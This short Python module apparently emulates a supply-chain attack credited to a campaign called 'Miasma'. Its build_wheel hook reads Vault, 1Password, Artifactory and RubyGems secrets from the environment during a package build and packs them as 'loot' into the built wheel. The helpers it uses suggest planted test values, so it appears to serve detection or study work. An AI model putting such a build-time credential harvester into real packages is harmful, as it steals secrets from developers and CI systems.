"""Reads the keys with which a job opens its vaults.

Miasma looked for those of HashiCorp Vault, 1Password and Artifactory by name.
"""

import os

import kit

PLACES = ("vault", "onepassword", "artifactory", "rubygems")


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    with kit.attempt("read"):
        for place in PLACES:
            loot[f"{place}.bin"] = os.environ.get(kit.plant(place).name, "").encode()
    return kit.wheel(wheel_directory, loot)
